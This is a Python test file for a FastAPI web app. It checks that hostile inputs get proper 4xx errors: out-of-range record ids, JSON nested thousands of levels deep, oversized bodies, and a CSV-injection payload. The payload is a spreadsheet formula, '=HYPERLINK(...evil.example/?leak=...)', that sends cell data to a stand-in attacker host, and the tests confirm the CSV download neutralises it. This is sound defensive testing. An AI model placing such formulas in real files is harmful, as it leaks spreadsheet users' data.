"""The attacker's inputs that used to be answered with a 500, each answered now with the 4xx it deserves:

- ids no record can have (above 2^63-1, 10^30, 0, negative) on every route with an integer id, found by
  walking the app's routes so a new route is covered without editing this file, on SQLite and PostgreSQL;
- JSON nested 100,000 deep in any body, and a community report of 8,000 nested brackets, against a real
  uvicorn server with one keep-alive connection that must still answer afterwards;
- the body size cap;
- CSV downloads whose free text starts with `=HYPERLINK(...)` (CSV injection).
"""

from __future__ import annotations

import csv
import io
import re
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute, iter_route_contexts

from scrutiny.web import create_app, get_settings
from scrutiny.web.limits import MAX_BODY_BYTES, MAX_UPLOAD_BYTES
from scrutiny.web.workspace.deps import CSRF_COOKIE, CSRF_HEADER, SESSION_COOKIE, session_csrf
from scrutiny.workspace import accounts
from scrutiny.workspace.database import Workspace
from scrutiny.workspace.models.accounts import Role
from scrutiny.workspace.record_ids import MAX_ID
from tests.conftest import write_archive
from tests.loopback import TLS
from tests.metrics.test_fixture_metrics import DRUGS_ACT, IN_MAIDSTONE, NFA, WHITE, row, write_kent_reference
from tests.web.conftest import LiveServer, ingest
from tests.workspace import conftest as workspace_fixtures

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

# the workspace on SQLite and on the real PostgreSQL (see tests/workspace/conftest.py)
cheap_passwords, fresh_postgres = workspace_fixtures.cheap_passwords, workspace_fixtures.fresh_postgres
workspace_url, ws = workspace_fixtures.workspace_url, workspace_fixtures.ws
sqlite_template, postgres_template = workspace_fixtures.sqlite_template, workspace_fixtures.postgres_template
postgres_recycled = workspace_fixtures.postgres_recycled
OUT_OF_RANGE = ["9223372036854775808", str(10**30), str(2**31), "0", "-1", "-9223372036854775809"]
DEEP = "[" * 100_000
COMMUNITY = "/api/v1/community-reports"


def _logged_in_admin(ws: Workspace) -> dict[str, str]:
    with ws.session(accounts.COMMAND_LINE) as session:
        user = accounts.create_user(session, "admin@example.org", "admin", Role.admin, "correct horse battery")
        token = accounts.start_session(session, user)
    csrf = session_csrf(token)  # the session's own token: a cookie's value alone is not believed
    return {"Cookie": f"{SESSION_COOKIE}={token}; {CSRF_COOKIE}={csrf}", CSRF_HEADER: csrf}


def id_routes(app: FastAPI) -> list[tuple[str, str, list[str], list[str]]]:
    """(method, path, integer path parameters, integer query parameters) of every route of the app."""
    found = []
    for context in iter_route_contexts(app.routes):
        route = context.original_route
        if not isinstance(route, APIRoute):
            continue
        ints = [(p.alias, where) for where, params in (("path", route.dependant.path_params),
                                                        ("query", route.dependant.query_params))
                for p in params if p.field_info.annotation in (int, int | None)]
        if ints:
            for method in sorted(route.methods):
                found.append((method, context.path, [n for n, w in ints if w == "path"],
                              [n for n, w in ints if w == "query"]))
    return found


def _fill(path: str, ids: list[str], value: str) -> str:
    return re.sub(r"\{([^}]+)\}", lambda m: value if m.group(1) in ids else "x", path)


@pytest.fixture
def admin_client(ws: Workspace, tmp_path: Path) -> Iterator[tuple[TestClient, dict[str, str]]]:
    app = create_app(get_settings(tmp_path / "none.duckdb", workspace_url=ws.url))
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client, _logged_in_admin(ws)
    app.state.workspace.dispose()


def test_every_id_route_refuses_ids_no_record_can_have(admin_client: tuple[TestClient, dict[str, str]]) -> None:
    client, headers = admin_client
    routes = id_routes(client.app)  # type: ignore[arg-type]
    paths = {path for _, path, _, _ in routes}
    assert len(routes) >= 40 and "/api/v1/panels/{panel_id}" in paths and "/api/v1/recommendations" in paths
    answers: dict[tuple[str, str, str], int] = {}
    for method, path, path_ids, query_ids in routes:
        for value in OUT_OF_RANGE:
            url = _fill(path, path_ids, value)
            params = {name: value for name in query_ids}
            status = client.request(method, url, params=params, headers=headers, data={"csrf_token": "x"}).status_code
            answers[(method, path, value)] = status
    bad = {key: status for key, status in answers.items() if status not in (404, 422)}
    assert not bad
    # the largest id is a fair question: no such record, not a refusal of the number
    assert client.get(f"/api/v1/panels/{MAX_ID}").status_code == 404
    assert client.get(f"/api/v1/recommendations/{MAX_ID}").status_code == 404
    assert client.get(f"/api/v1/panels/{MAX_ID + 1}").json()["detail"][0]["loc"] == ["path", "panel_id"]


def test_ids_in_a_json_body_are_checked(admin_client: tuple[TestClient, dict[str, str]]) -> None:
    client, headers = admin_client
    body = {"text": "t", "from_body_id": 2**63, "to_body_id": 1, "made_on": "2024-01-01"}
    answer = client.post("/api/v1/recommendations", json=body, headers=headers)
    assert answer.status_code == 422 and answer.json()["detail"][0]["loc"] == ["body", "from_body_id"]
    patch = client.patch("/api/v1/recommendations/1", json={"panel_id": 10**30}, headers=headers)
    assert patch.status_code == 422


def _body_operations(app: FastAPI) -> list[tuple[str, str]]:
    spec = app.openapi()
    return [(method.upper(), path.replace("{recommendation_id}", "1")) for path, operations in spec["paths"].items()
            for method, operation in operations.items() if "requestBody" in operation]


@pytest.fixture
def app_on_sqlite(tmp_path: Path) -> Iterator[FastAPI]:
    app = create_app(get_settings(tmp_path / "none.duckdb", workspace_url=f"sqlite:///{tmp_path / 'ws.sqlite'}"))
    app.state.workspace.upgrade()
    yield app
    app.state.workspace.dispose()


def test_deep_json_in_any_body_is_a_422_that_says_so(app_on_sqlite: FastAPI) -> None:
    operations = _body_operations(app_on_sqlite)
    assert ("POST", COMMUNITY) in operations and ("PATCH", "/api/v1/recommendations/1") in operations
    with TestClient(app_on_sqlite, raise_server_exceptions=False) as client:
        for method, path in operations:
            answer = client.request(method, path, content=DEEP, headers={"content-type": "application/json"})
            assert answer.status_code == 422, (method, path)
            assert answer.json()["detail"] == [{
                "loc": ["body"], "type": "json_too_deep",
                "msg": "the JSON body nests arrays and objects 100,000 levels deep: the limit is 64"}]
        # no content type, as curl sends by default: FastAPI and the community route still read it as JSON
        assert client.post(COMMUNITY, content=DEEP).status_code == 422
        # 64 levels is fine for the guard: the route then says what is wrong with it
        shallow = client.post(COMMUNITY, content="[" * 64 + "]" * 64)
        assert shallow.status_code == 422 and shallow.json()["detail"][0]["msg"] == "body: send a JSON object"


def test_bodies_over_the_cap_are_413(app_on_sqlite: FastAPI) -> None:
    with TestClient(app_on_sqlite, raise_server_exceptions=False) as client:
        big = client.post("/api/v1/recommendations", content=b" " * (MAX_BODY_BYTES + 1),
                          headers={"content-type": "application/json"})
        assert big.status_code == 413 and big.json()["detail"][0]["type"] == "too_large"
        at_cap = client.post("/api/v1/recommendations", content=b" " * MAX_BODY_BYTES,
                             headers={"content-type": "application/json"})
        assert at_cap.status_code == 422 and at_cap.json()["detail"][0]["type"] != "too_large"  # read, not JSON

        def chunks() -> Iterator[bytes]:  # announced as too large: refused before a byte is read
            yield b"x"

        upload = client.post("/workspace/diversion/import", content=chunks(), headers={
            "content-type": "multipart/form-data; boundary=x", "content-length": str(MAX_UPLOAD_BYTES + 1)})
        assert upload.status_code == 413
        spec = app_on_sqlite.openapi()["paths"]
        assert set(spec[COMMUNITY]["post"]["responses"]) >= {"201", "413", "422", "429"}
        assert "413" in spec["/api/v1/recommendations"]["post"]["responses"]


def _report(**extra: Any) -> dict[str, Any]:
    return {"date": "2026-11-01", "kind": "search", "borough": "E09000001", **extra}


def test_community_report_of_nested_brackets_keeps_the_connection(app_on_sqlite: FastAPI) -> None:
    """The community report of 8,000 nested brackets, on a real server and one keep-alive connection: a 422
    (the JSON body) or a 413 (the form, 48 KB encoded, over its 16 KB limit), and the connection still answers."""
    brackets = "[" * 8000 + "]" * 8000
    in_text = "[" * 2900 + "]" * 2900  # as much as the account field (6,000 characters) takes: just text
    with LiveServer(app_on_sqlite) as server, httpx.Client(base_url=server.url, timeout=30, verify=TLS) as client:
        deep = client.post(COMMUNITY, content=brackets, headers={"content-type": "application/json"})
        port = deep.extensions["network_stream"].get_extra_info("client_addr")[1]
        assert deep.status_code == 422 and deep.json()["detail"][0]["type"] == "json_too_deep"
        stored = client.post(COMMUNITY, json=_report(account=in_text))
        assert stored.status_code == 201, stored.text
        form = client.post("/report", data=_report(account=brackets))
        assert form.status_code == 413 and "too long" in form.text
        after = client.get("/api/v1/community-reports/summary")
        assert after.status_code == 200
        assert after.extensions["network_stream"].get_extra_info("client_addr")[1] == port  # the same connection


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A Kent month of 4 searches whose free text (object of search) is a formula, an @-function, a plain
    negative number and ordinary words."""
    folder = tmp_path_factory.mktemp("formula-sources")
    quoted = '"' + HYPERLINK.replace('"', '""') + '"'
    rows = [row("Person search", IN_MAIDSTONE, "18-24", WHITE, "White", DRUGS_ACT, obj, NFA, "False", "False")
            for obj in (quoted, "@SUM(1+1)", "-12.5", "Controlled drugs")]
    write_archive(folder, "2024-01", "kent", rows)
    write_kent_reference(folder)
    db = tmp_path_factory.mktemp("formula-db") / "formula.duckdb"
    ingest(folder, "--db", db)
    return db


def test_csv_download_neutralises_formulas(formula_db: Path) -> None:
    with TestClient(create_app(get_settings(formula_db))) as client:
        answer = client.get("/api/v1/searches.csv", params={"force": "kent"})
        parquet = client.get("/api/v1/searches.parquet", params={"force": "kent"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    records = list(csv.DictReader(io.StringIO(answer.text)))
    assert [r["object_of_search"] for r in records] == ["'" + HYPERLINK, "'@SUM(1+1)", "-12.5", "Controlled drugs"]
    assert {r["longitude"] for r in records} == {records[0]["longitude"]}  # numbers written as numbers
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in records for cell in r.values() if cell)
    assert parquet.status_code == 200 and HYPERLINK.encode() in parquet.content  # Parquet keeps values as loaded
